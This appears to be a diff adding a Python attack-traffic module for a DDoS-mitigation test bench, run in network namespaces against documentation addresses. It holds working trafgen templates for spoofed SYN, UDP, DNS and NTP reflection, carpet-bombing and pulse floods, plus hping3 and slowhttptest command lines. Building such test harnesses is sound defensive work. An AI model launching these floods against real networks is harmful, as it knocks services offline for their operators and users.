@@ -1,0 +1,138 @@
+"""The attacks: packet descriptions for trafgen, command lines for hping3 and slowhttptest, each with a bounded rate.
+
+An attack is a list of bursts; a burst is one command, the seconds that it runs, and the pause after it.
+"""
+
+import contextlib
+import os
+import signal
+import subprocess
+import threading
+from dataclasses import dataclass
+
+from addresses import ACME, ATTACKER4, INET
+import namespaces
+from processes import die_with_parent
+
+EDGE, INTERNET = INET.ends
+ETH = f"eth(da={EDGE.mac}, sa={INTERNET.mac})"
+SPOOFED4 = "sa=198.19.0.0, sa[2]=drnd(), sa[3]=drnd()"
+SPOOFED6 = "sa=2001:db8:f:a::1, sa[12:4]=drnd()"
+
+# name -> (what it is, packets for trafgen). Sizes are of the kind seen in the wild.
+FLOODS = {
+    "syn": ("TCP SYN flood, spoofed sources, the web server's port",
+            [f"{{ {ETH}, ipv4({SPOOFED4}, da={ACME.web4}, ttl=60, id=drnd()),"
+             " tcp(sport=drnd(1024, 65535), dport=80, seq=drnd(), syn, window=64240) }"]),
+    "syn6": ("TCP SYN flood over IPv6, spoofed sources",
+             [f"{{ {ETH}, ipv6({SPOOFED6}, da={ACME.web6}, hoplimit=60),"
+              " tcp(sport=drnd(1024, 65535), dport=80, seq=drnd(), syn, window=64240) }"]),
+    "udp": ("UDP flood, spoofed sources, random ports",
+            [f"{{ {ETH}, ipv4({SPOOFED4}, da={ACME.web4}, ttl=60), udp(sport=drnd(1024, 65535), dport=drnd(1024, 65535)),"
+             " fill('A', 400) }"]),
+    "dns": ("DNS reflection: large answers that nobody asked for",
+            [f"{{ {ETH}, ipv4({SPOOFED4}, da={ACME.web4}, ttl=60), udp(sport=53, dport=drnd(1024, 65535)),"
+             " drnd(2), c16(0x8180), c16(1), c16(8), c16(0), c16(0), fill('A', 900) }"]),
+    "ntp": ("NTP monlist reflection",
+            [f"{{ {ETH}, ipv4({SPOOFED4}, da={ACME.web4}, ttl=60), udp(sport=123, dport=drnd(1024, 65535)),"
+             " 0xd7, 0x00, 0x03, 0x2a, fill(0x00, 436) }"]),
+    "carpet": ("carpet bombing: UDP over all 256 hosts of acme's /24, each under its own threshold",
+               [f"{{ {ETH}, ipv4({SPOOFED4}, da=192.0.2.0, da[3]=dinc(0, 255), ttl=60),"
+                " udp(sport=drnd(1024, 65535), dport=drnd(1024, 65535)), fill('A', 200) }"]),
+}
+# Pulse waves: the SYN flood in bursts with pauses shorter than a hold-down.
+PULSE_ON_S, PULSE_OFF_S = 4.0, 3.0
+TOOLS = {
+    "hping3": "TCP SYN flood by hping3 from one real host, its rate limited only by its timer",
+    "slow": "slowhttptest: connections that send their headers byte by byte",
+}
+KINDS = {**{name: text for name, (text, _) in FLOODS.items()},
+         "pulse": f"the SYN flood in pulses of {PULSE_ON_S:g} s every {PULSE_ON_S + PULSE_OFF_S:g} s", **TOOLS}
+
+
+@dataclass(frozen=True)
+class Burst:
+    argv: list
+    seconds: float
+    pause_s: float = 0.0
+
+
+def bursts(kind, rate_pps, seconds, run_dir):
+    if kind == "pulse":
+        rounds = max(1, round(seconds / (PULSE_ON_S + PULSE_OFF_S)))
+        return [Burst(_trafgen("syn", rate_pps, PULSE_ON_S, run_dir), PULSE_ON_S, PULSE_OFF_S) for _ in range(rounds)]
+    if kind in FLOODS:
+        return [Burst(_trafgen(kind, rate_pps, seconds, run_dir), seconds)]
+    if kind == "hping3":
+        # hping3 waits whole microseconds between packets and reaches about three quarters of what is asked.
+        interval = max(1, round(1_000_000 / rate_pps))
+        return [Burst(["hping3", "-q", "-S", "-p", "80", "-I", INTERNET.name, "-a", ATTACKER4, "-i", f"u{interval}",
+                       ACME.web4], seconds)]
+    if kind == "slow":
+        return [Burst(["slowhttptest", "-H", "-c", "500", "-r", "100", "-i", "5", "-l", str(round(seconds)), "-x", "24",
+                       "-u", f"http://{ACME.web4}/"], seconds + 1)]
+    raise ValueError(f"unknown attack '{kind}'; there are: {', '.join(KINDS)}")
+
+
+def _trafgen(kind, rate_pps, seconds, run_dir):
+    conf = f"{run_dir}/attack-{kind}.cfg"
+    with open(conf, "w", encoding="utf-8") as out:
+        out.write("\n".join(FLOODS[kind][1]) + "\n")
+    # Leave the machine's socket buffers and interrupts alone; one process, so that it ends as one.
+    return ["trafgen", "--dev", INTERNET.name, "--conf", conf, "--rate", f"{round(rate_pps)}pps", "--num",
+            str(round(rate_pps * seconds)), "--cpus", "1", "--no-sock-mem", "--notouch-irq", "--no-cpu-stats"]
+
+
+class Attack:
+    """Plays the bursts of one attack in the internet's namespace, in a thread; stop() ends it at once."""
+
+    def __init__(self, ns, kind, rate_pps, seconds, run_dir):
+        self.kind = kind
+        self._bursts = bursts(kind, rate_pps, seconds, run_dir)
+        self._ns, self._log_path = ns, f"{run_dir}/log/attack-{kind}.out"
+        self._stopping, self._child = threading.Event(), None
+        self._thread = threading.Thread(target=self._play, name=f"attack-{kind}")
+
+    def start(self):
+        self._thread.start()
+        return self
+
+    def running(self):
+        return self._thread.is_alive()
+
+    def wait(self, timeout=None):
+        self._thread.join(timeout)
+        return not self._thread.is_alive()
+
+    def stop(self):
+        self._stopping.set()
+        self._thread.join()
+
+    def _play(self):
+        with open(self._log_path, "ab") as log:
+            for burst in self._bursts:
+                if self._stopping.is_set():
+                    return
+                self._child = subprocess.Popen(namespaces.enter_command(self._ns, burst.argv), stdin=subprocess.DEVNULL,
+                                               stdout=log, stderr=log, start_new_session=True, preexec_fn=die_with_parent)
+                try:
+                    self._await(burst.seconds)
+                finally:
+                    self._end()
+                if self._stopping.wait(burst.pause_s):
+                    return
+
+    def _await(self, seconds):
+        """Until the burst's time is over, its packets are all sent, or stop() is called."""
+        for _ in range(round(seconds / 0.02)):
+            if self._stopping.wait(0.02) or self._child.poll() is not None:
+                return
+
+    def _end(self):
+        # The tools fork; the session of the command is the whole of it.
+        for number, grace in ((signal.SIGTERM, 0.3), (signal.SIGKILL, 2)):
+            with contextlib.suppress(ProcessLookupError):
+                os.killpg(self._child.pid, number)
+            with contextlib.suppress(subprocess.TimeoutExpired):
+                self._child.wait(grace)
+                return
